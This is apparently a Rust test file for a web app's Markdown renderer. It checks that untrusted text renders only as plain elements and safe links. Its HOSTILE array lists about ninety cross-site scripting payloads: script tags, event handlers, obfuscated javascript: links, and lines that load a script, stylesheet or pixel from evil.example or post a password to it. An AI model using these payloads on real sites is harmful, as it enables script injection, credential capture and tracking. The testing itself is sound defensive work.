//! What becomes of a text, and that nothing in it becomes anything else.

use leptos::{
    mount::mount_to,
    prelude::*,
    wasm_bindgen::JsCast as _,
    web_sys::{Element, HtmlAnchorElement, HtmlElement},
};
use wasm_bindgen_test::wasm_bindgen_test as test;

use super::{
    Markdown,
    address::LinkTarget,
    read::{Kind, Node, read},
};

/// What strangers try. Each is put into the document of a real browser.
const HOSTILE: [&str; 92] = [
    // Scripts and other elements.
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div id=page>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"https://evil.example\" onclick=alert(1)>x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    // Links that are none.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](java&#0;script:alert(1))",
    "[x](java&shy;script:alert(1))",
    "[x](\u{200b}javascript:alert(1))",
    "[x](\u{feff}javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript://evil.example/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://backline.example/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](intent://evil.example#Intent;scheme=https;end)",
    "[x](filesystem:https://backline.example/temporary/x)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/api/v1/interactions)",
    "[x](?as=sofia)",
    "[x](#page)",
    "[x](workspace)",
    "[x](http:javascript:alert(1))",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://bank.example@evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://evil.example/\u{202e}moc.knab)",
    "[x](mailto:)",
    "[x](https://ok.example \"onmouseover=alert(1)\")",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[x](https://ok.example/'><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]\n\n[1]: <javascript:alert(1)> 'title\" onload=\"alert(1)'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    // Pictures, which would be fetched.
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
    // Code that would end itself.
    "```html\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
];

const ELEMENTS: [&str; 13] =
    ["DIV", "P", "STRONG", "EM", "CODE", "PRE", "UL", "OL", "LI", "BLOCKQUOTE", "BR", "HR", "A"];

/// Puts a text into the document, hands over the place of it, and takes it away again.
fn drawn<T>(text: &str, look: impl FnOnce(&HtmlElement) -> T) -> T {
    let place = document().create_element("section").expect("a section");
    let place: HtmlElement = place.unchecked_into();
    document().body().expect("a body").append_child(&place).expect("it is put there");
    let text = text.to_owned();
    let shown = mount_to(place.clone(), move || view! { <Markdown text /> });
    let seen = look(&place);
    drop(shown);
    place.remove();
    seen
}

fn elements(place: &HtmlElement) -> Vec<Element> {
    let all = place.query_selector_all("*").expect("a selector");
    (0..all.length()).filter_map(|at| all.get(at)?.dyn_into().ok()).collect()
}

#[track_caller]
fn harmless(text: &str, place: &HtmlElement) {
    for element in elements(place) {
        assert!(ELEMENTS.contains(&element.tag_name().as_str()), "{text}: {}", element.tag_name());
        let link = element.dyn_ref::<HtmlAnchorElement>();
        for attribute in element.get_attribute_names() {
            let attribute = attribute.as_string().unwrap_or_default();
            let known: &[&str] = match element.tag_name().as_str() {
                "A" => &["href", "title", "target", "rel"],
                "OL" => &["start"],
                "PRE" => &["tabindex"],
                "DIV" => &["class"],
                _ => &[],
            };
            assert!(known.contains(&attribute.as_str()), "{text}: {attribute}");
        }
        let Some(link) = link else { continue };
        let scheme = link.protocol();
        let allowed = ["http:", "https:", "mailto:", "tel:"];
        assert!(allowed.contains(&scheme.as_str()), "{text}: {}", link.href());
        assert_ne!(link.host(), "evil.example", "{text}");
        assert_eq!(link.rel(), "noopener noreferrer");
        assert_eq!(link.target(), "_blank");
    }
}

#[track_caller]
fn check(text: &str, nodes: &[Node]) {
    assert_eq!(read(text), nodes);
}

fn text(text: &str) -> Node {
    Node::Text(text.to_owned())
}

fn around(kind: Kind, inside: &[Node]) -> Node {
    Node::Around(kind, inside.to_vec())
}

fn paragraph(inside: &[Node]) -> Node {
    around(Kind::Paragraph, inside)
}

/// covers: R-166
#[test]
fn nothing_that_strangers_write_becomes_more_than_text_and_plain_links() {
    for text in HOSTILE {
        drawn(text, |place| harmless(text, place));
    }
}

#[test]
fn hostile_texts_are_as_harmless_inside_other_elements() {
    for text in HOSTILE {
        for around in [["- ", ""], ["> ", ""], ["# ", ""], ["**", "**"], ["1. > *", "*"]] {
            let text = [around[0], text, around[1]].concat();
            drawn(&text, |place| harmless(&text, place));
        }
    }
}

#[test]
fn html_is_shown_to_the_letter() {
    for html in ["<b>loud</b> words", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>"] {
        assert_eq!(drawn(html, |place| place.inner_text()).trim(), html);
    }
}

#[test]
fn a_picture_leaves_its_words() {
    check(
        "see ![the *plan*](https://a.example/p.png)",
        &[paragraph(&[text("see the "), around(Kind::Emphasis, &[text("plan")])])],
    );
}

#[test]
fn a_link_that_leads_nowhere_allowed_leaves_its_label() {
    check("go [there](javascript:alert(1)) now", &[paragraph(&[text("go there now")])]);
    check("<javascript:alert(1)>", &[paragraph(&[text("javascript:alert(1)")])]);
}

#[test]
fn links_lead_to_the_web_to_mail_and_to_telephones() {
    for (written, leads) in [
        ("[x](https://a.example/b?c=d#e)", "https://a.example/b?c=d#e"),
        ("[x](HTTP://a.example)", "http://a.example"),
        ("[x](mailto:help@a.example)", "mailto:help@a.example"),
        ("[x](tel:+351210000000)", "tel:+351210000000"),
        ("<https://a.example>", "https://a.example"),
        ("<help@a.example>", "mailto:help@a.example"),
        ("[x][1]\n\n[1]: https://a.example", "https://a.example"),
    ] {
        let found = drawn(written, |place| {
            let link =
                elements(place).into_iter().find_map(|it| it.dyn_into::<HtmlAnchorElement>().ok());
            link.and_then(|link| link.get_attribute("href"))
        });
        assert_eq!(found.as_deref(), Some(leads), "{written}");
    }
}

#[test]
fn an_address_without_a_scheme_is_not_made_a_link() {
    check("www.a.example", &[paragraph(&[text("www.a.example")])]);
    assert_eq!(LinkTarget::allowed("a.example"), None);
}

/// covers: R-166
#[test]
fn paragraphs_emphasis_lists_and_code_are_what_they_are() {
    check(
        "one *two* **three** `four`\n\nfive\\\nsix",
        &[
            paragraph(&[
                text("one "),
                around(Kind::Emphasis, &[text("two")]),
                text(" "),
                around(Kind::Strong, &[text("three")]),
                text(" "),
                around(Kind::Code, &[text("four")]),
            ]),
            paragraph(&[text("five"), Node::Break, text("six")]),
        ],
    );
    check(
        "3. one\n4. two\n\n- three",
        &[
            around(
                Kind::Numbered(3),
                &[around(Kind::Item, &[text("one")]), around(Kind::Item, &[text("two")])],
            ),
            around(Kind::List, &[around(Kind::Item, &[text("three")])]),
        ],
    );
    check(
        "> one\n\n```sh\nls\n```\n\n---",
        &[
            around(Kind::Quote, &[paragraph(&[text("one")])]),
            around(Kind::Listing, &[text("ls\n")]),
            Node::Rule,
        ],
    );
}

#[test]
fn a_heading_is_no_heading_of_the_page() {
    check("# one", &[around(Kind::Heading, &[text("one")])]);
    let tags =
        drawn("# one", |place| elements(place).iter().map(Element::tag_name).collect::<Vec<_>>());
    assert_eq!(tags, ["DIV", "P", "STRONG"]);
}

#[test]
fn a_text_of_brackets_alone_stays_shallow_and_keeps_its_words() {
    for deep in ["> ".repeat(2000), "- ".repeat(2000), "*a **b ".repeat(600)] {
        let written = [&deep, "end"].concat();
        let (depth, words) = drawn(&written, |place| (depth(place), place.inner_text()));
        assert!(depth < 20, "{depth}");
        assert!(words.contains("end"));
    }
}

fn depth(element: &Element) -> u32 {
    let children = element.children();
    let below = (0..children.length()).filter_map(|at| children.item(at));
    1 + below.map(|child| depth(&child)).max().unwrap_or_default()
}
